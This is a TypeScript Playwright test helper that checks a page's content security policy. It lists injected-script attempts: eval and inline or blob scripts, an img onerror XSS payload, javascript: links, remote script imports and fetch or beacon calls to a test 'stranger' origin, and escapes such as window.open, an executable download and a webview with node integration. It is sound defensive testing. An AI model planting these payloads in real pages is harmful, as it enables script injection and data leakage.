import type { Page } from '@playwright/test';

/*
 * What a script that got into the page would try. Each of these runs inside the page, on its own; what one of them gets to run sets `globalThis.ran`,
 * and what it gets to ask is written down by the stranger. A refusal may be an error or silence.
 */
type Attempt = (stranger: string) => unknown;

const put = (tag: string, attributes: Record<string, string>): HTMLElement => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  document.body.append(element);
  return element;
};

/** Tries one after the other in a page, outside of what the driver itself may do there; comes back with what ran. */
export const tryAll = (
  page: Page,
  attempts: Record<string, Attempt>,
  stranger: string,
): Promise<unknown> =>
  page.evaluate(`new Promise((done) => setTimeout(async () => {
    const put = ${put};
    const pause = (milliseconds) => new Promise((over) => setTimeout(over, milliseconds));
    for (const attempt of [${Object.values(attempts).join(',\n')}]) {
      try {
        void Promise.resolve(attempt(${JSON.stringify(stranger)})).catch(() => undefined);
      } catch {}
      await pause(10);
    }
    await pause(500);
    done(globalThis.ran ?? null);
  }))`);

/** Ways to run a text as a program: one or two for each rule of the policy that is in their way. */
export const running: Record<string, Attempt> = {
  eval: () => Reflect.get(globalThis, 'eval')('globalThis.ran = "eval"'),
  timer: () => setTimeout('globalThis.ran = "timer"' as unknown as () => void),
  'inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.ran = "inline"';
    document.body.append(script);
  },
  'script of a blob': () => {
    const script = document.createElement('script');
    script.src = URL.createObjectURL(
      new Blob(['globalThis.ran = "blob"'], { type: 'text/javascript' }),
    );
    document.body.append(script);
  },
  'script of a data address': () =>
    put('script', { src: 'data:text/javascript,globalThis.ran="data"' }),
  'script of a stranger': (stranger) => put('script', { src: `${stranger}/script.js` }),
  'import of a stranger': (stranger) => import(`${stranger}/import.js`),
  innerHTML: () => {
    document.body.lastElementChild?.insertAdjacentHTML(
      'beforeend',
      '<img src=x onerror="globalThis.ran=1">',
    );
  },
  'event attribute': () => put('button', { onclick: 'globalThis.ran="onclick"' }).click(),
  'javascript: link': () => put('a', { href: 'javascript:globalThis.ran="link"' }).click(),
  'frame with its own text': () => put('iframe', { srcdoc: '<script>parent.ran=1</script>' }),
  'frame of a blob': () =>
    put('iframe', {
      src: URL.createObjectURL(new Blob(['<script>parent.ran=1</script>'], { type: 'text/html' })),
    }),
  object: () =>
    put('object', { data: 'data:text/html,<script>parent.ran=1</script>', type: 'text/html' }),
  'worker of a blob': () => new Worker(URL.createObjectURL(new Blob(['fetch("/ran")']))),
  'worker of a kept text': () => new Worker('text/11111111-1111-1111-1111-111111111111'),
  'service worker': () => navigator.serviceWorker.register('text/1'),
  'policy of its own': () =>
    (
      globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
    ).trustedTypes.createPolicy('mine', {}),
  'policy of a name in use': () =>
    (
      globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
    ).trustedTypes.createPolicy('default', {}),
};

/** Ways to ask another origin that every browser lets a page try. */
export const asking: Record<string, Attempt> = {
  fetch: (stranger) => fetch(`${stranger}/fetch`, { mode: 'no-cors' }),
  beacon: (stranger) => navigator.sendBeacon(`${stranger}/beacon`, 'x'),
  WebSocket: (stranger) => new WebSocket(stranger.replace('http', 'ws')),
  image: (stranger) => put('img', { src: `${stranger}/image` }),
  video: (stranger) => put('video', { src: `${stranger}/video`, poster: `${stranger}/poster` }),
  'style sheet': (stranger) => put('link', { rel: 'stylesheet', href: `${stranger}/style` }),
  'image of a style': (stranger) =>
    put('div', { style: `width:9px;height:9px;background:url(${stranger}/background)` }),
  'font of a style': (stranger) => {
    put('style', {}).textContent = `@font-face{font-family:f;src:url(${stranger}/font)}`;
    put('p', { style: 'font-family:f' }).textContent = 'x';
  },
  prefetch: (stranger) => put('link', { rel: 'prefetch', href: `${stranger}/prefetch` }),
  preload: (stranger) => put('link', { rel: 'preload', as: 'script', href: `${stranger}/preload` }),
  frame: (stranger) => put('iframe', { src: `${stranger}/frame` }),
  form: (stranger) => {
    const form = put('form', { action: `${stranger}/form`, method: 'post' });
    if (form instanceof HTMLFormElement) form.submit();
  },
  'ping of a link': (stranger) => put('a', { href: '#', ping: `${stranger}/ping` }).click(),
  base: (stranger) => {
    put('base', { href: stranger });
    return fetch('based');
  },
};

/** Ways out that only the desktop app closes, beside those of the page's policy: to go elsewhere, to open something, to reach out without a request. */
export const leaving: Record<string, Attempt> = {
  location: (stranger) => location.assign(`${stranger}/location`),
  'location of a blob': () =>
    location.assign(URL.createObjectURL(new Blob(['<title>gone</title>'], { type: 'text/html' }))),
  'location of a kept text': () => location.assign('text/1'),
  'link that is clicked': (stranger) => put('a', { href: `${stranger}/link` }).click(),
  'link to be downloaded': (stranger) =>
    put('a', { href: `${stranger}/download`, download: 'x.exe' }).click(),
  'window.open': (stranger) => window.open(`${stranger}/open`),
  'window.open of nothing': () => window.open('about:blank'),
  'window.open of javascript:': () => window.open('javascript:globalThis.ran="open"'),
  'link with a target': (stranger) =>
    put('a', { href: `${stranger}/target`, target: '_blank' }).click(),
  webview: (stranger) => put('webview', { src: `${stranger}/webview`, nodeintegration: '' }),
  preconnect: (stranger) => put('link', { rel: 'preconnect', href: stranger, crossorigin: '' }),
};
